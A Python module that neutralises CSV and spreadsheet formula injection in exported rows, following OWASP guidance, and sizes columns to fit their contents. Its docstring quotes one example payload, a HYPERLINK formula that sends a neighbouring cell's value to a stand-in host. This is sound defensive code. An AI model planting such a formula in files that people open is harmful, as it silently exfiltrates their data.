"""Rows written to spreadsheets and CSV files so that opening them is safe.

A participant chooses their own company name and note. In Excel or LibreOffice a cell whose
text starts with `=`, `+`, `-` or `@` (or a tab or carriage return before one) is a formula:
`=HYPERLINK("http://evil.example/?c="&B2,"Open catalogue")` would become a live link that
sends the neighbouring cell away. Following OWASP's CSV-injection guidance, such text is
written as text: in a workbook the cell is typed as a string and flagged "quote prefix" (what
Excel itself does when you type `'=...`), so the text shows exactly as typed; in a CSV file it
gets a leading single quote. Every writer of the project goes through `append_row` or
`csv_row` (the organizer's workbook, the invites file, the fair's results).
"""

from __future__ import annotations

import unicodedata
from collections.abc import Iterable
from typing import TYPE_CHECKING

if TYPE_CHECKING:  # openpyxl is imported where a workbook is made: a bot process that
    # makes none (most of them) does not pay its tenth of a second of CPU
    from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_risky(value: object) -> bool:
    """Whether a spreadsheet would read this value as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def append_row(sheet: Worksheet, values: Iterable[object]) -> None:
    """Appends one row; text is never a formula, and characters Excel's XML cannot hold
    (from rows stored before they were cleaned, see store/text.py) are left out rather than
    failing the whole workbook."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    row = [ILLEGAL_CHARACTERS_RE.sub("", v) if isinstance(v, str) else v for v in values]
    sheet.append(row)
    number = sheet.max_row
    for column, value in enumerate(row, start=1):
        if is_risky(value):
            cell = sheet.cell(number, column)
            cell.data_type = "s"
            cell.quotePrefix = True


def csv_row(values: Iterable[object]) -> list[object]:
    """One CSV row with each risky text prefixed by a single quote."""
    return [f"'{v}" if is_risky(v) else v for v in values]


WIDEST = 60  # characters: a long description wraps in Excel rather than widening the sheet


def text_width(value: object) -> int:
    """How many character widths a value takes in a cell: Hangul and other wide characters
    count twice."""
    text = value if isinstance(value, str) else "" if value is None else str(value)
    line = max(text.split("\n"), key=len) if text else ""
    return sum(2 if unicodedata.east_asian_width(ch) in "WF" else 1 for ch in line)


def fit_columns(sheet: Worksheet) -> None:
    """Sets each column's width to fit its widest cell (headers included), up to `WIDEST`."""
    for cells in sheet.iter_cols():
        widest = max(text_width(cell.value) for cell in cells)
        sheet.column_dimensions[cells[0].column_letter].width = min(widest + 2, WIDEST)
